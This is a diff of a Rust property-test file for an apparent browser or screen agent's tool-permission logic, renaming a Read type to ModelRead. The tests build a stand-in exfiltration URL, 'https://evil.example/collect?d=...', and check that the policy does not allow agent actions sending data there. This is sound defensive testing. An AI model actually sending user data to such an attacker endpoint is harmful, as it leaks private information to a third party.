@@ -4,7 +4,7 @@ use proptest::prelude::*;
 use proptest::sample::select;
 use screen_agent_page::{Node, NodeId, Observation, Role};
 
-use crate::tool::{Deed, Mode, Read, ToolCase, ToolDecision, decide_tool, pass_tool};
+use crate::tool::{Deed, Mode, ModelRead, ToolCase, ToolDecision, decide_tool, pass_tool};
 use screen_agent_action::{Action, Choice};
 use screen_agent_words::fold::is_invisible;
 
@@ -95,7 +95,7 @@ fn case<'a>(deed: Deed<'a>, mode: Mode, said: &'a str, seen: &'a Observation) ->
     ToolCase {
         deed,
         mode,
-        read: Read::Page,
+        read: ModelRead::Page,
         words: vec![said],
         seen: Some(seen),
         run: "run_1",
@@ -159,7 +159,7 @@ proptest! {
         shape in 0_usize..8,
         mode in mode(),
         said in words(),
-        read in select(vec![Read::Site, Read::Private]),
+        read in select(vec![ModelRead::Site, ModelRead::Private]),
     ) {
         let hostile = format!("https://evil.example/collect?d={told}");
         let url = match shape {
@@ -192,7 +192,7 @@ proptest! {
         ] {
             let case = ToolCase { read, ..case(deed, mode, &said, &seen) };
             let decision = decide_tool(&case);
-            let own_site = read == Read::Site && url.starts_with("https://evil.example/");
+            let own_site = read == ModelRead::Site && url.starts_with("https://evil.example/");
             let links = !matches!(deed, Deed::Search { .. });
             prop_assert!(own_site && links || decision.word() != "allow", "{deed:?} {decision:?}");
             if let (ToolDecision::Ask { text, .. }, Deed::Capture { .. }) = (&decision, deed) {
